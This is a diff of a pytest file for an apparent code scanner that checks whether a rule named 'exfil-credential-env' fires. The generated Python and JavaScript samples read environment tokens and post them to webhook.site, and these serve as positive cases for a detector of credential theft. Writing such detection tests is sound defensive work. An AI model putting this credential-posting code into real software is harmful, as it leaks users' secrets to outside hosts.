@@ -39,14 +39,14 @@ def _run(text: str, kind: FileKind, lang: Lang) -> tuple[int, set[str]]:
 @pytest.mark.parametrize(
     ("text", "kind", "lang", "rules"),
     [
-        # an ordinary host, so the single variables are followed (`flow_demand`), but none is a credential
+        # credentials sent to a host, so they are followed (`flow_demand`), each to its own API
         ("U = 'https://api.example.com/x'\n"
-         + "".join(f"k{n} = os.environ.get('A{n}')\nrequests.post(U, data=k{n})\n" for n in range(30)),
+         + "".join(f"k{n} = os.environ.get('A{n}_EXAMPLE_TOKEN')\nrequests.post(U, data=k{n})\n" for n in range(30)),
          FileKind.PYTHON, PY, set()),
         ("".join(f"k{n} = os.environ.get('A{n}_TOKEN')\nrequests.post('https://webhook.site/x', data=k{n})\n"
                  for n in range(30)), FileKind.PYTHON, PY, {"exfil-credential-env"}),
         ("const U = 'https://api.example.com/x';\n"
-         + "".join(f"const k{n} = process.env.A{n}; axios.post(U, k{n});\n" for n in range(30)),
+         + "".join(f"const k{n} = process.env.A{n}_EXAMPLE_TOKEN; axios.post(U, k{n});\n" for n in range(30)),
          FileKind.JAVASCRIPT, JS, set()),
         ("".join(f"const k{n} = process.env.A{n}_TOKEN; axios.post('https://webhook.site/x', k{n});\n"
                  for n in range(30)), FileKind.JAVASCRIPT, JS, {"exfil-credential-env"}),
